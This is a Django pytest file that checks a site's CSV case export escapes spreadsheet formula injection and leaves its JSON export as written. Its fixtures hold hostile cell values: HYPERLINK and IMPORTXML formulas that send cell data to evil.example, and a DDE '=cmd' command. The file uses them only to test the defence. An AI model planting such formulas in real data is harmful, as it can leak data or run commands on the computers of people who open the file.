"""The open data's CSV is formula-safe: whatever a member wrote, a spreadsheet that opens
/case/export.csv shows it as text and runs nothing (OWASP, "CSV Injection")."""

import csv
import datetime
import io
import json
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy

from network.models import CaseReuse
from network.spreadsheets import formula_safe
from tests.factories import make_case, make_case_index, make_organisation
from tests.responses import body

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"Öppna")'


@pytest.fixture
def hostile_case(home_page):
    index = make_case_index(home_page)
    boras = make_organisation()
    evil = make_organisation("=cmd|' /C calc'!A0", slug="evil", domains=())
    partner = make_organisation("@SUM(1+1)", slug="at-sum", domains=())
    case = make_case(
        index,
        title=HYPERLINK,
        summary="+SUM(A1:A9)",
        coordinator=evil,
        partners=[partner, boras],
        funder=boras,
        funding_amount=400000,
        funding_programme="-5",
        funding_reference='@IMPORTXML(CONCAT("https://evil.example/", A2), "//a")',
        users_and_beneficiaries="\t=1+1",
        lessons="<p>=2+5</p>",
        tags=["-Avvikelse", "Idésluss"],
    )
    make_case(index, title="Vanlig titel; med semikolon, och komma", summary="Helt vanlig.")
    CaseReuse.objects.create(case=case, organisation=evil, adopted_on="2025-01-01")
    return case


def csv_rows(client):
    response = client.get("/case/export.csv")
    assert response.status_code == 200
    text = body(response).decode("utf-8").lstrip("\ufeff")
    return text, list(csv.DictReader(io.StringIO(text)))


def test_cells_that_would_be_formulas_are_shown_as_text(client, hostile_case):
    _text, rows = csv_rows(client)
    row = next(row for row in rows if row["id"] == str(hostile_case.pk))

    assert row["title"] == "'" + HYPERLINK
    assert row["summary"] == "'+SUM(A1:A9)"
    assert row["coordinator"] == "'=cmd|' /C calc'!A0"
    assert row["funding_programme"] == "'-5"  # text that looks like a number stays text
    assert row["funding_reference"].startswith("'@IMPORTXML(")
    assert row["users_and_beneficiaries"] == "'\t=1+1"
    assert row["lessons"] == "'=2+5"
    # Lists: the cell and each name in it, for a program that splits them again.
    assert row["partners"] == "'@SUM(1+1); Borås Stad"
    assert row["tags"] == "'-Avvikelse; Idésluss"
    assert row["reused_by"] == "'=cmd|' /C calc'!A0"


def test_no_cell_of_the_export_starts_as_a_formula(client, hostile_case):
    _text, rows = csv_rows(client)

    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_numbers_and_ordinary_text_are_left_as_they_are(client, hostile_case):
    _text, rows = csv_rows(client)
    row = next(row for row in rows if row["id"] == str(hostile_case.pk))
    plain = next(row for row in rows if row["title"].startswith("Vanlig"))

    assert row["funding_amount_sek"] == "400000"
    assert row["funder"] == "Borås Stad"
    assert plain["title"] == "Vanlig titel; med semikolon, och komma"
    assert plain["summary"] == "Helt vanlig."


def test_every_cell_is_quoted_so_a_semicolon_cannot_start_a_new_cell(client, hostile_case):
    # Swedish Excel splits an unquoted line at ";": quotes keep each cell whole.
    text, _rows = csv_rows(client)
    plain_line = next(line for line in text.splitlines() if "Vanlig titel" in line)

    assert plain_line.startswith('"')
    assert '"Vanlig titel; med semikolon, och komma"' in plain_line
    assert all(cell.startswith('"') for cell in text.splitlines()[0].split(","))


def test_the_json_keeps_the_titles_as_written(client, hostile_case):
    # JSON is data, not a spreadsheet: nothing is prefixed there.
    data = json.loads(body(client.get("/case/export.json")))
    case = next(case for case in data["cases"] if case["id"] == hostile_case.pk)

    assert case["title"] == HYPERLINK
    assert case["partners"] == ["@SUM(1+1)", "Borås Stad"]
    assert case["funding_amount_sek"] == 400000


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+46 31 123 45", "'+46 31 123 45"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("Borås", "Borås"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (datetime.date(2025, 3, 1), datetime.date(2025, 3, 1)),
        (gettext_lazy("=1+1"), "'=1+1"),  # a lazy label is text too
        (-5, -5),
        (12, 12),
        (Decimal("-1.5"), Decimal("-1.5")),
    ],
)
def test_formula_safe_prefixes_formulas_and_keeps_real_numbers(value, cell):
    assert formula_safe(value) == cell


def test_a_client_with_a_current_copy_gets_304_from_one_query_until_a_case_changes(
    client, hostile_case, django_assert_max_num_queries
):
    first = client.get("/case/export.json")
    b"".join(first.streaming_content)
    etag = first["ETag"]

    with django_assert_max_num_queries(3):  # the session-less request reads one version row
        again = client.get("/case/export.json", HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 304
    assert again["Cache-Control"] == first["Cache-Control"]

    case = hostile_case
    case.title = "Ny rubrik"
    case.save_revision().publish()

    changed = client.get("/case/export.json", HTTP_IF_NONE_MATCH=etag)
    assert changed.status_code == 200
    assert changed["ETag"] != etag
    assert "Ny rubrik" in body(changed).decode()
